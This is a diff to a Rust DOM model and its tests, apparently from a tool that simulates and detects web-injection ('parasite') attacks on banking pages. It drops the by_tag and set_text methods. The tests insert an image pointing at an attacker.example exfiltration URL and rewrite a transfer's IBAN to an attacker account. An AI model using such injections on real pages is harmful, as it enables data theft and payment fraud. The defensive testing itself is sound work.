@@ -141,12 +141,6 @@ impl Dom {
         self.elements.iter_mut().find(|e| e.id == id)
     }
 
-    /// All elements with the given tag.
-    pub fn by_tag(&self, tag: &str) -> Vec<&Element> {
-        let tag = tag.to_ascii_lowercase();
-        self.elements.iter().filter(|e| e.tag == tag).collect()
-    }
-
     /// First element whose `name` attribute matches.
     pub fn by_name(&self, name: &str) -> Option<&Element> {
         self.elements.iter().find(|e| e.name() == name)
@@ -174,17 +168,6 @@ impl Dom {
         match self.element_mut(id) {
             Some(element) => {
                 element.attrs.insert(name.to_ascii_lowercase(), value.to_string());
-                true
-            }
-            None => false,
-        }
-    }
-
-    /// Sets the text content of an element.
-    pub fn set_text(&mut self, id: ElementId, text: &str) -> bool {
-        match self.element_mut(id) {
-            Some(element) => {
-                element.text = text.to_string();
                 true
             }
             None => false,
@@ -261,11 +244,15 @@ mod tests {
         (dom, form)
     }
 
+    fn count_tag(dom: &Dom, tag: &str) -> usize {
+        dom.all().iter().filter(|e| e.tag == tag).count()
+    }
+
     #[test]
     fn build_and_query_elements() {
         let (dom, _form) = login_page();
-        assert_eq!(dom.by_tag("input").len(), 2);
-        assert_eq!(dom.by_tag("form").len(), 1);
+        assert_eq!(count_tag(&dom, "input"), 2);
+        assert_eq!(count_tag(&dom, "form"), 1);
         assert!(dom.by_name("password").is_some());
         assert!(dom.by_name("otp").is_none());
         assert_eq!(dom.len(), 3);
@@ -287,7 +274,7 @@ mod tests {
 
     #[test]
     fn script_inserted_elements_are_attributable() {
-        let (mut dom, _form) = login_page();
+        let (mut dom, form) = login_page();
         dom.add_script_element("img", &[("src", "http://attacker.example/exfil?d=abc")], "");
         dom.add_script_element("iframe", &[("src", "https://bank.example/")], "");
         let inserted = dom.script_inserted();
@@ -295,18 +282,17 @@ mod tests {
         assert!(inserted.iter().any(|e| e.tag == "img"));
         assert!(inserted.iter().any(|e| e.tag == "iframe"));
         // Original markup is not flagged.
-        assert!(!dom.by_tag("form")[0].inserted_by_script);
+        assert!(!dom.element(form).unwrap().inserted_by_script);
     }
 
     #[test]
     fn dom_manipulation_changes_visible_content() {
         let mut dom = Dom::new(url("https://bank.example/transfer"));
-        let balance = dom.add_markup_element("div", &[("id", "balance")], "Balance: 12,345.67 EUR");
+        dom.add_markup_element("div", &[("id", "balance")], "Balance: 12,345.67 EUR");
         let iban = dom.add_markup_element("input", &[("name", "iban"), ("value", "DE89 3704 0044 0532 0130 00")], "");
         assert!(dom.visible_text().contains("12,345.67"));
         // Transaction manipulation: the parasite rewrites the beneficiary.
         dom.set_attr(iban, "value", "GB29 ATTACKER 0000 0000 0000 00");
-        dom.set_text(balance, "Balance: 12,345.67 EUR");
         assert_eq!(dom.by_name("iban").unwrap().value(), "GB29 ATTACKER 0000 0000 0000 00");
     }
 
@@ -315,7 +301,7 @@ mod tests {
         let (mut dom, form) = login_page();
         assert!(dom.remove(form));
         assert!(!dom.remove(form));
-        assert_eq!(dom.by_tag("form").len(), 0);
+        assert_eq!(count_tag(&dom, "form"), 0);
     }
 
     #[test]
